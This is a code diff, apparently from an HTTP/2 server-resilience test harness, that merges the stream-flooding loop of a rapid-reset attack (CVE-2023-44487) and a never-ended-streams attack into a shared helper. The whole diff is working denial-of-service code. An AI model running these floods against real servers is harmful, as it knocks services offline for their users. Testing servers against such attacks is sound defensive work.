@@ -374,22 +374,31 @@ class AttackConnection:
 # --- the attacks ----------------------------------------------------------------------------
 
 
+def open_streams(conn: AttackConnection, count: int, seconds: float, batch: int,
+                 reset: bool) -> list[int]:
+    """Streams opened `batch` at a time (each reset at once with `reset`) until `count`,
+    `seconds`, or the server ending the connection; the ids opened."""
+    deadline = time.monotonic() + seconds
+    opened: list[int] = []
+    first, later = conn.request(), conn.request()
+    while len(opened) < count and not conn.ended() and time.monotonic() < deadline:
+        ids = range(2 * len(opened) + 1, 2 * min(count, len(opened) + batch), 2)
+        chunk = b"".join(headers(s, first if s == 1 else later) + (
+            RstStreamFrame(s, error_code=ErrorCodes.CANCEL).serialize() if reset else b"")
+            for s in ids)
+        if not conn.send(chunk, frames=(2 if reset else 1) * len(ids)):
+            break
+        opened.extend(ids)
+    return opened
+
+
 def rapid_reset(port: int, pairs: int = 2000, seconds: float = 5.0,
                 batch: int = 100) -> AttackResult:
     """CVE-2023-44487: open a stream and reset it at once, again and again."""
     conn = AttackConnection(port)
-    deadline = time.monotonic() + seconds
     opened: list[int] = []
     if conn.handshake():
-        first, later = conn.request(), conn.request()
-        while len(opened) < pairs and not conn.ended() and time.monotonic() < deadline:
-            ids = range(2 * len(opened) + 1, 2 * min(pairs, len(opened) + batch), 2)
-            chunk = b"".join(headers(s, first if s == 1 else later)
-                             + RstStreamFrame(s, error_code=ErrorCodes.CANCEL).serialize()
-                             for s in ids)
-            if not conn.send(chunk, frames=2 * len(ids)):
-                break
-            opened.extend(ids)
+        opened = open_streams(conn, pairs, seconds, batch, reset=True)
         conn.linger()
     return conn.result("rapid reset", streams=opened)
 
@@ -398,16 +407,9 @@ def never_ended_streams(port: int, streams: int = 1100, seconds: float = 5.0,
                         hold: float = 1.0, batch: int = 100) -> AttackResult:
     """Open streams (HEADERS without END_STREAM), send nothing more, keep them open."""
     conn = AttackConnection(port)
-    deadline = time.monotonic() + seconds
     opened: list[int] = []
     if conn.handshake():
-        first, later = conn.request(), conn.request()
-        while len(opened) < streams and not conn.ended() and time.monotonic() < deadline:
-            ids = range(2 * len(opened) + 1, 2 * min(streams, len(opened) + batch), 2)
-            chunk = b"".join(headers(s, first if s == 1 else later) for s in ids)
-            if not conn.send(chunk, frames=len(ids)):
-                break
-            opened.extend(ids)
+        opened = open_streams(conn, streams, seconds, batch, reset=False)
         conn.wait_until(lambda view: False, hold)  # what the server does with them
     return conn.result("never-ended streams", streams=opened)
 
